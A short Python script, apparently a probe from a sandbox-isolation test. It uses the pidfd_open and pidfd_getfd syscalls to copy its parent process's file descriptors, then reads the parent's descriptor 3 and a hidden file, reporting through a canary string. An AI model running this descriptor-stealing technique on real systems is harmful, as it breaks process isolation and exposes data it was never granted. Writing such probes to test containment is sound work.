"""Attacks its parent: by its descriptors and orders."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
pid = libc.syscall(434, os.getppid(), 0)
for fd in range(64):
    copy = libc.syscall(438, pid, fd, 0)
    if copy > 0:
        tell("CANARY-HIDDEN" "-9b27 is at hand: a descriptor")
if not LOOT:
    tell(open(f"/proc/{os.getppid()}/fd/3").read(), open("@HIDDEN@").read())
